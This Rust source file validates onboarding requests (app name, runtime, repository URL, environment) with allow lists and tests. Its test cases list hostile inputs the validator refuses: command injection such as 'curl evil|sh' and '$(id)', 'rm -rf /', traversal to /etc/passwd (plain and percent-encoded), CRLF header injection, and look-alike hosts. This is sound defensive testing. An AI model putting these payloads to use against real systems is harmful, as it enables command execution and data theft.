//! Onboarding validation: deterministic rules, each refusal with a reason and what would pass.
//!
//! The request comes from outside and its values may be hostile, so every rule is an allow
//! list rather than a search for known bad input: the name is `^[a-z0-9][a-z0-9-]{2,49}$`, the
//! runtime one of [`RUNTIMES`], and the repository URL plain ASCII `https://HOST[:PORT]/PATH`
//! with a plausible DNS host name. ASCII only, because a look-alike letter (Cyrillic `а`,
//! fullwidth `；`, `․․`) can pass for another host or hide a character the rules refuse.
//! A percent escape may not hide what the rules refuse written plainly, nor `.`, `/` or `%`,
//! so traversal cannot come back encoded (`%2e%2e`, `%2f`, `%252e`).

use bus_schema::OnboardRequest;

/// Runtimes an app may declare.
pub const RUNTIMES: &[&str] = &["backend", "frontend", "worker", "job", "static"];

/// Longest accepted repository URL, in characters.
pub const MAX_REPO_URL: usize = 500;

/// Environments that count as production (as the risk negotiator counts them).
pub const PROD_ENVS: &[&str] = &["prod", "production"];

/// Characters a shell, a URL parser or a path could read as more than text.
const METACHARACTERS: &str = ";|&$`<>(){}[]'\"\\*?!#^";

/// Why an onboarding request is refused (stable codes on the proof log).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub code: &'static str,
    pub message: String,
}

fn refuse(code: &'static str, message: String) -> Result<(), Refusal> {
    Err(Refusal { code, message })
}

fn bad_url(message: String) -> Result<(), Refusal> {
    refuse("invalid_repo_url", message)
}

/// Checks a request. `exists` says whether the app is already onboarded in that env.
pub fn validate(req: &OnboardRequest, exists: bool, allow_prod: bool) -> Result<(), Refusal> {
    let name = req.app_name.as_str();
    let name_ok = (3..=50).contains(&name.len())
        && name.bytes().next().is_some_and(|c| c.is_ascii_lowercase() || c.is_ascii_digit())
        && name.bytes().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'-');
    if !name_ok {
        return refuse(
            "invalid_app_name",
            format!(
                "app name {:?} must match ^[a-z0-9][a-z0-9-]{{2,49}}$ (3 to 50 of a-z, 0-9, '-'; not starting with '-')",
                shown(name)
            ),
        );
    }
    if exists {
        return refuse(
            "duplicate_app",
            format!(
                "{name} is already onboarded in {} with different settings; pick another name",
                req.env
            ),
        );
    }
    if !RUNTIMES.contains(&req.runtime.as_str()) {
        return refuse(
            "invalid_runtime",
            format!("runtime {:?} is not one of: {}", shown(&req.runtime), RUNTIMES.join(", ")),
        );
    }
    check_repo_url(&req.repo_url)?;
    if PROD_ENVS.contains(&req.env.as_str()) && !allow_prod {
        return refuse(
            "env_not_allowed",
            format!(
                "onboarding to {} is off on this deploy agent, whatever was onboarded in dev or stage before: its operator can turn it on with --allow-prod-onboarding (CN_ALLOW_PROD_ONBOARDING)",
                req.env
            ),
        );
    }
    Ok(())
}

fn check_repo_url(url: &str) -> Result<(), Refusal> {
    if url.is_empty() {
        return bad_url("repo_url is empty; expected https://HOST/PATH".to_owned());
    }
    let len = url.chars().count();
    if len > MAX_REPO_URL {
        return bad_url(format!("repo_url is {len} characters; at most {MAX_REPO_URL}"));
    }
    if let Some(c) = url.chars().find(|c| !c.is_ascii()) {
        return bad_url(format!(
            "repo_url contains {c:?}; only ASCII is allowed (use punycode for an international host)"
        ));
    }
    if let Some(c) = url
        .chars()
        .find(|c| c.is_ascii_whitespace() || c.is_ascii_control() || METACHARACTERS.contains(*c))
    {
        return bad_url(format!(
            "repo_url contains {c:?}, which is not allowed (no whitespace, control characters, quotes, query or fragment)"
        ));
    }
    let Some(rest) = url.strip_prefix("https://") else {
        return bad_url(format!("repo_url {:?} must start with https://", shown(url)));
    };
    let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
    check_authority(authority)?;
    check_path(path)
}

/// `HOST[:PORT]`: no user info, a DNS name of letters, digits and inner hyphens with at least
/// one dot, and a port in 1..=65535 if there is one.
fn check_authority(authority: &str) -> Result<(), Refusal> {
    if authority.contains('@') {
        return bad_url(
            "repo_url must not carry a user name or password (nothing before '@' in the host)"
                .to_owned(),
        );
    }
    let (host, port) = match authority.split_once(':') {
        Some((host, port)) => (host, Some(port)),
        None => (authority, None),
    };
    if let Some(port) = port {
        let valid = !port.is_empty()
            && port.len() <= 5
            && port.bytes().all(|b| b.is_ascii_digit())
            && port.parse::<u32>().is_ok_and(|p| (1..=65535).contains(&p));
        if !valid {
            return bad_url(format!(
                "repo_url port {:?} is not a number in 1..=65535",
                shown(port)
            ));
        }
    }
    let label_ok = |l: &str| {
        (1..=63).contains(&l.len())
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
    };
    if host.len() > 253 || !host.contains('.') || !host.split('.').all(label_ok) {
        return bad_url(format!(
            "repo_url host {:?} is not a host name such as git.example.com",
            shown(host)
        ));
    }
    Ok(())
}

/// No `.` or `..` segment, and no percent escape that hides a refused character or one that
/// changes the path (`.`, `/`, `%`).
fn check_path(path: &str) -> Result<(), Refusal> {
    if path.split('/').any(|segment| segment == ".." || segment == ".") {
        return bad_url(
            "repo_url must not contain path traversal ('.' or '..' segments)".to_owned(),
        );
    }
    let bytes = path.as_bytes();
    for (i, _) in path.match_indices('%') {
        let escape = bytes
            .get(i + 1..i + 3)
            .and_then(|hex| std::str::from_utf8(hex).ok())
            .and_then(|hex| u8::from_str_radix(hex, 16).ok());
        let Some(decoded) = escape else {
            return bad_url(
                "repo_url has a '%' that does not start a percent escape (%XX)".to_owned(),
            );
        };
        let c = char::from(decoded);
        if matches!(c, '.' | '/' | '%')
            || c.is_ascii_whitespace()
            || c.is_ascii_control()
            || METACHARACTERS.contains(c)
        {
            return bad_url(format!(
                "repo_url must not hide {c:?} in a percent escape ({}): no encoded traversal, separators or refused characters",
                &path[i..i + 3]
            ));
        }
    }
    Ok(())
}

/// At most 80 characters of hostile input in messages.
fn shown(s: &str) -> String {
    s.chars().take(80).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn req(name: &str, url: &str, runtime: &str, env: &str) -> OnboardRequest {
        OnboardRequest {
            app_name: name.into(),
            repo_url: url.into(),
            runtime: runtime.into(),
            env: env.parse().unwrap(),
        }
    }

    fn code(r: Result<(), Refusal>) -> &'static str {
        r.err().map_or("ok", |r| r.code)
    }

    const URL: &str = "https://example.com/org/demo-api";

    /// The verdict on a name, with a good URL and runtime.
    fn name_verdict(name: &str) -> &'static str {
        code(validate(&req(name, URL, "backend", "dev"), false, false))
    }

    /// The verdict on a URL, with a good name and runtime.
    fn url_verdict(url: &str) -> &'static str {
        code(validate(&req("demo-api", url, "backend", "dev"), false, false))
    }

    #[test]
    fn good_and_hostile_requests() {
        let cases = [
            (req("demo-api", URL, "backend", "dev"), false, "ok"),
            (req("demo-api", URL, "backend", "dev"), true, "duplicate_app"),
            (req("Demo", URL, "backend", "dev"), false, "invalid_app_name"),
            (req("ab", URL, "backend", "dev"), false, "invalid_app_name"),
            (req("a;rm -rf /", URL, "backend", "dev"), false, "invalid_app_name"),
            (req(&"a".repeat(51), URL, "backend", "dev"), false, "invalid_app_name"),
            (req("demo-api", URL, "cobol", "dev"), false, "invalid_runtime"),
            (req("demo-api", URL, "", "dev"), false, "invalid_runtime"),
            (req("demo-api", URL, "Backend", "dev"), false, "invalid_runtime"),
            (req("demo-api", URL, "backend\n", "dev"), false, "invalid_runtime"),
            (req("demo-api", URL, "backend", "prod"), false, "env_not_allowed"),
            (req("demo-api", URL, "backend", "production"), false, "env_not_allowed"),
            (req("demo-api", URL, "backend", "stage"), false, "ok"),
            // The name is judged first, then whether it exists, the runtime, the URL, the env.
            (req("Demo", URL, "cobol", "prod"), true, "invalid_app_name"),
            (req("demo-api", "http://x", "cobol", "prod"), true, "duplicate_app"),
            (req("demo-api", "http://x", "cobol", "prod"), false, "invalid_runtime"),
            (req("demo-api", "http://x", "backend", "prod"), false, "invalid_repo_url"),
        ];
        for (r, exists, expected) in cases {
            assert_eq!(code(validate(&r, exists, false)), expected, "{r:?}");
        }
        assert_eq!(code(validate(&req("demo-api", URL, "backend", "prod"), false, true)), "ok");
        assert_eq!(
            code(validate(&req("demo-api", URL, "backend", "production"), false, true)),
            "ok"
        );
    }

    #[test]
    fn app_names() {
        let cases = [
            ("demo-api", "ok"),
            ("abc", "ok"),
            ("123", "ok"),
            ("9lives", "ok"),
            ("a--b", "ok"),
            ("api-", "ok"),
            (&"a".repeat(50), "ok"),
            (&"a".repeat(51), "invalid_app_name"),
            ("ab", "invalid_app_name"),
            ("", "invalid_app_name"),
            ("-api", "invalid_app_name"),
            ("demo_api", "invalid_app_name"),
            ("demo.api", "invalid_app_name"),
            ("demo api", "invalid_app_name"),
            ("demo-api\n", "invalid_app_name"),
            ("demo-api\0", "invalid_app_name"),
            (" demo-api", "invalid_app_name"),
            ("dеmo-api", "invalid_app_name"),  // Cyrillic е
            ("demo‐api", "invalid_app_name"),  // U+2010 hyphen
            ("ｄemo-api", "invalid_app_name"), // fullwidth ｄ
            ("demo-api$(id)", "invalid_app_name"),
            ("../etc", "invalid_app_name"),
        ];
        for (name, expected) in cases {
            assert_eq!(name_verdict(name), expected, "{name:?}");
        }
    }

    #[test]
    fn repository_urls_that_pass() {
        let exactly_500 = format!(
            "https://example.com/{}",
            "x".repeat(MAX_REPO_URL - "https://example.com/".len())
        );
        assert_eq!(exactly_500.len(), 500);
        for url in [
            URL,
            "https://git.example.com:8443/org/app",
            "https://github.com/org/app.git",
            "https://gitlab.example.com/group/sub-group/app.git",
            "https://example.com",
            "https://example.com/",
            "https://10.0.0.7/org/app",
            "https://Git.Example.COM/Org/App",
            "https://example.com/org/caf%C3%A9",
            "https://example.com/org/app~1/v1.2_x@y=z,w+v",
            "https://xn--bcher-kva.example/org/app",
            &exactly_500,
        ] {
            assert_eq!(url_verdict(url), "ok", "{url:?}");
        }
    }

    #[test]
    fn hostile_repository_urls_are_refused() {
        let url_501 = format!(
            "https://example.com/{}",
            "x".repeat(MAX_REPO_URL + 1 - "https://example.com/".len())
        );
        assert_eq!(url_501.len(), 501);
        let cases = [
            "",
            "http://example.com/x",
            "HTTPS://example.com/x",
            "file:///etc/passwd",
            "git@example.com:org/app.git",
            "ssh://git@example.com/org/app",
            " https://example.com/x",
            "https://example.com/x\n",
            "https://example.com/x\0",
            "https://example.com/x%00",
            "https://example.com/x\r\nHost: evil",
            "https://example.com/x;curl evil|sh",
            "https://example.com/$(id)",
            "https://example.com/`id`",
            "https://example.com/${IFS}",
            "https://example.com/x?a=1;b=2",
            "https://example.com/x?ref=main",
            "https://example.com/x#frag",
            "https://example.com/x&&id",
            "https://example.com/x>out",
            "https://example.com/'x'",
            "https://example.com/../../etc/passwd",
            "https://example.com/org/./app",
            "https://example.com/org/..",
            "https://example.com/%2e%2e/etc/passwd",
            "https://example.com/%2E%2E/etc/passwd",
            "https://example.com/.%2e/etc",
            "https://example.com/org%2f..%2fetc",
            "https://example.com/org%2F..",
            "https://example.com/%252e%252e/etc",
            "https://example.com/..\\..\\etc",
            "https://example.com/x%5c..",
            "https://example.com/x%3bid",
            "https://example.com/my%20app",
            "https://example.com/x%0aid",
            "https://example.com/x%",
            "https://example.com/x%zz",
            "https://example.com/x%2",
            "https://host:22@evil/x",
            "https://user@evil.com/x",
            "https://user:pass@example.com/x",
            "https://example.com@evil.com/x",
            "https:///etc/passwd",
            "https://",
            "https://:443/x",
            "https://localhost/x",
            "https://example/x",
            "https://.example.com/x",
            "https://example.com./x",
            "https://example..com/x",
            "https://-evil.example.com/x",
            "https://evil-.example.com/x",
            "https://exa_mple.com/x",
            "https://example.com:/x",
            "https://example.com:0/x",
            "https://example.com:65536/x",
            "https://example.com:22a/x",
            "https://example.com:+22/x",
            "https://[::1]/x",
            "https://exаmple.com/x",      // Cyrillic а
            "https://example．com/x",     // fullwidth full stop
            "https://example.com/x；id",  // fullwidth semicolon
            "https://example.com/․․/etc", // one dot leaders
            "https://example.com/x\u{202e}txt.exe",
            &url_501,
        ];
        for url in cases {
            assert_eq!(url_verdict(url), "invalid_repo_url", "{url:?}");
        }
        let long_host = format!("https://{}.com/x", "a.".repeat(130));
        assert_eq!(url_verdict(&long_host), "invalid_repo_url");
        let long_label = format!("https://{}.com/x", "a".repeat(64));
        assert_eq!(url_verdict(&long_label), "invalid_repo_url");
    }

    #[test]
    fn refusals_say_what_would_pass_and_show_little_of_the_input() {
        let message = |r: OnboardRequest| validate(&r, false, false).unwrap_err().message;
        let runtime = message(req("demo-api", URL, "cobol", "dev"));
        assert_eq!(
            runtime,
            "runtime \"cobol\" is not one of: backend, frontend, worker, job, static"
        );
        assert!(message(req("-api", URL, "backend", "dev")).contains("^[a-z0-9][a-z0-9-]{2,49}$"));
        assert!(
            message(req("demo-api", "http://example.com/x", "backend", "dev")).contains("https://")
        );
        assert!(
            message(req("demo-api", "https://exаmple.com/x", "backend", "dev"))
                .contains("only ASCII")
        );
        assert!(
            message(req("demo-api", "https://example.com/%2e%2e/x", "backend", "dev"))
                .contains("%2e")
        );
        // It says what turns prod onboarding on, and does not promise that onboarding in dev
        // or stage first would (it would not).
        let prod = message(req("demo-api", URL, "backend", "prod"));
        assert!(prod.contains("--allow-prod-onboarding") && !prod.contains("first"), "{prod}");
        let hostile = "x".repeat(10_000);
        for r in [
            req(&hostile, URL, "backend", "dev"),
            req("demo-api", URL, &hostile, "dev"),
            req("demo-api", &format!("ftp://{hostile}"), "backend", "dev"),
        ] {
            assert!(message(r).len() < 300);
        }
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        proptest! {
            /// Whatever URL passes is plain https ASCII with no refused character and no
            /// traversal, however it was built.
            #[test]
            fn an_accepted_url_is_plain(url in "https://[a-z0-9.:@%/\\\\;$`?#-]{0,40}", junk in "\\PC{0,8}") {
                for candidate in [url.clone(), format!("{url}{junk}")] {
                    if url_verdict(&candidate) == "ok" {
                        prop_assert!(candidate.is_ascii() && candidate.starts_with("https://"));
                        prop_assert!(!candidate.chars().any(|c| c.is_ascii_control() || c.is_ascii_whitespace() || METACHARACTERS.contains(c)));
                        let lower = candidate.to_ascii_lowercase();
                        prop_assert!(!lower.contains("/../") && !lower.ends_with("/..") && !lower.contains("%2e") && !lower.contains("%2f") && !lower.contains("%25"));
                        prop_assert!(!candidate["https://".len()..].split('/').next().unwrap_or_default().contains('@'));
                    }
                }
            }

            /// Whatever name passes matches the documented pattern.
            #[test]
            fn an_accepted_name_matches_the_pattern(name in "\\PC{0,60}") {
                if name_verdict(&name) == "ok" {
                    prop_assert!((3..=50).contains(&name.len()) && !name.starts_with('-'));
                    prop_assert!(name.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'));
                }
            }
        }
    }
}
